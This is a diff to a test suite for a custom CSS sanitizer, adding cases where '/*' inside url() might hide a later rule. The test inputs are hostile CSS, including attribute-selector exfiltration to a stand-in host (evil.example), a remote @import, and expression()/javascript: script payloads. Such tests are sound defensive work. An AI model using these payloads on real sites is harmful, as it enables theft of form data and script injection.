@@ -28,6 +28,19 @@ describe('custom CSS checks', () => {
     ['a { background: url("data:image/png;base64,AAAA") }', CUSTOM_CSS_MESSAGES.remote],
     ['a { background: image-set("https://evil.example/a.png" 1x) }', CUSTOM_CSS_MESSAGES.remote],
     ['a { background: -webkit-image-set("x.png" 1x) }', CUSTOM_CSS_MESSAGES.remote],
+    // "/*" inside an unquoted url() is part of the address: no comment hides the rule after it.
+    [
+      'input[value^="a"]{background:url(/x/*)}input[value^="b"]{background:url(https://evil.example/b*/)}',
+      CUSTOM_CSS_MESSAGES.remote,
+    ],
+    [
+      'a{background:url(/x/*)}b{background:image-set("https://evil.example/b" 1x)}c{d:url(/y*/)}',
+      CUSTOM_CSS_MESSAGES.remote,
+    ],
+    [
+      'a{b:url(/x/*)}@import "https://evil.example/x.css";c{d:url(/y*/)}',
+      CUSTOM_CSS_MESSAGES.atRules,
+    ],
     ['a { width: expression(alert(1)) }', CUSTOM_CSS_MESSAGES.script],
     ['a { background: url(javascript:alert(1)) }', CUSTOM_CSS_MESSAGES.script],
     ['a { behavior: url(/x.htc) }', CUSTOM_CSS_MESSAGES.script],
